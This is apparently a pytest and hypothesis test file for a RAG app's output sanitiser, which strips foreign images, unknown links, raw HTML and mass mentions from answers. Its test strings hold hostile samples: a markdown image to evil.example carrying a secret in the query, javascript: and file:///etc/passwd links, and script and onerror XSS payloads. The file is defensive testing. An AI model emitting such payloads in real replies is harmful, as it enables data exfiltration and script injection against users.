"""Answer text is cleaned of foreign images, unknown links, raw HTML and mass mentions."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.rag.leakguard import LeakGuard
from app.rag.markup import clean, describe, open_construct
from app.rag.output import OutputFilter
from tests.support.hostile_markdown import BANNED, FORMS, rendered_targets

ADDR = "0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48"


def test_images_links_html_and_mentions_are_neutralised() -> None:
    text = (
        "See ![x](https://evil.example/p.png?q=secret) and [click](javascript:alert(1)) "
        "<script>steal()</script><img src=x onerror=alert(1)> @everyone <@&123> @here "
        "[docs](https://evil.example/phish) <https://evil.example/auto>"
    )
    out = clean(text, source_urls=[])
    for bad in ("evil.example", "javascript:", "<script", "steal()", "<img", "onerror", "<@&"):
        assert bad not in out.text
    assert "@everyone" not in out.text and "@here" not in out.text
    assert out.changes == {"image": 1, "link": 3, "html": 2, "mention": 3}
    assert any("image removed" in w for w in describe(out.changes))


def test_source_and_explorer_links_survive() -> None:
    text = (
        f"[USDC docs](https://www.circle.com/usdc) at [{ADDR}](https://etherscan.io/address/{ADDR})"
        " and [fake](https://etherscan.io/address/0x0000000000000000000000000000000000000bad)"
    )
    out = clean(text, source_urls=["https://www.circle.com/usdc"])
    assert "(https://www.circle.com/usdc)" in out.text
    assert f"(https://etherscan.io/address/{ADDR})" in out.text
    assert "0bad)" not in out.text and out.changes["link"] == 1


def test_citations_and_comparisons_are_kept() -> None:
    out = clean("Fees fell [1][2] and 1 < 2 > 0; see [3](https://evil.example).", source_urls=[])
    assert out.text == "Fees fell [1][2] and 1 < 2 > 0; see [3]."


def test_open_constructs_are_found() -> None:
    assert open_construct("safe text <img src=x") == len("safe text ")
    assert open_construct("see ![x](https://ev") == len("see ")
    assert open_construct("see [1]") == len("see ")
    assert open_construct("see [1] and more") == -1
    assert open_construct("closed <b> tag") == -1


@pytest.mark.parametrize("name", FORMS)
def test_markdown_forms_renderers_accept_are_cleaned(name: str) -> None:
    text = f"See [the docs](https://docs.example/a) [1].\n\n{FORMS[name]}"
    out = clean(text, source_urls=["https://docs.example/a"])
    assert not any(bad in out.text for bad in BANNED), out.text
    assert rendered_targets(out.text) == ["https://docs.example/a"], out.text
    assert sum(out.changes.values()) >= 1


@pytest.mark.parametrize("name", FORMS)
def test_markdown_forms_stay_inert_when_streamed_in_small_pieces(name: str) -> None:
    reply = "Intro sentence about pools [1]. " * 3 + "\n\n" + FORMS[name] + " " + "Filler. " * 40
    out = OutputFilter(LeakGuard("unrelated hidden prompt text for the guard"), set(), [])
    sent = "".join(out.feed(reply[i : i + 3]) for i in range(0, len(reply), 3)) + out.finish()
    assert not any(bad in sent for bad in BANNED), sent
    assert rendered_targets(sent) == []


def test_a_source_url_that_is_not_http_lets_no_link_through() -> None:
    for url in ("javascript:alert(1)", "file:///etc/passwd", "data:text/html,x"):
        out = clean(f"Get your [refund]({url}) [1].", source_urls=[url])
        assert out.text == "Get your refund [1]." and out.changes["link"] == 1


def test_kept_links_are_written_inline_and_cannot_become_images() -> None:
    text = "Read it\\![docs][d]\n\n[d]: https://docs.example/a"
    out = clean(text, source_urls=["https://docs.example/a"])
    assert out.text == "Read it\\![docs](https://docs.example/a)"
    assert rendered_targets(out.text) == ["https://docs.example/a"]


def test_ordinary_markdown_is_kept() -> None:
    text = (
        "# Fees\n\nFees are **low** and _fixed_ [1][2]:\n\n- swap: `0.3%`\n- stake: 1 < 2\n\n"
        "| pool | fee |\n| --- | --: |\n| a | 1 |\n\n```solidity\nrequire(a < b);\n```\n\n> quoted"
    )
    out = clean(text, source_urls=[])
    assert out.text == text
    assert not out.changes


def test_an_address_split_by_markup_is_written_whole() -> None:
    entity = ADDR.replace("1", "&#49;")
    bold = ADDR[:12] + "**" + ADDR[12:] + "** is it"
    assert clean(f"It is {entity}.", source_urls=[]).text == f"It is {ADDR}."
    assert clean(bold, source_urls=[]).text == f"{ADDR} is it"
    assert clean(f"`{ADDR}`", source_urls=[]).text == f"`{ADDR}`"


_PIECES = [
    *("[", "]", "(", ")", "<", ">", "!", "`", "```", "*", "_", "\\", ":", "|", "&#49;", " "),
    *("\n", "\n\n", "> ", "- ", "1. ", "    ", "[a]: ", "[1]", "a", "<!--", "-->", "@everyone"),
    *("https://evil.example/x", "www.evil.example", "javascript:alert(1)", "<script>", "</script>"),
    *("<img src=x onerror=a>", "<img/src=x/onerror=a>", "[d](https://docs.example/a)", ADDR),
]


@settings(max_examples=150, deadline=None)
@given(st.lists(st.sampled_from(_PIECES), max_size=40), st.integers(1, 9))
def test_any_mix_of_markup_renders_only_kept_links(pieces: list[str], step: int) -> None:
    text = "".join(pieces)
    urls = ["https://docs.example/a"]
    assert set(rendered_targets(clean(text, urls).text)) <= set(urls)
    out = OutputFilter(LeakGuard("unrelated hidden prompt text for the guard"), set(), urls)
    sent = "".join(out.feed(text[i : i + step]) for i in range(0, len(text), step)) + out.finish()
    assert set(rendered_targets(sent)) <= set(urls)


def test_open_code_is_held_whole() -> None:
    assert open_construct("see `a.b") == len("see ")
    assert open_construct("see `a.b` done") == -1
    assert open_construct("text\n```py\ncode") == len("text\n")
    assert open_construct("text\n```py\ncode\n```\nafter") == -1
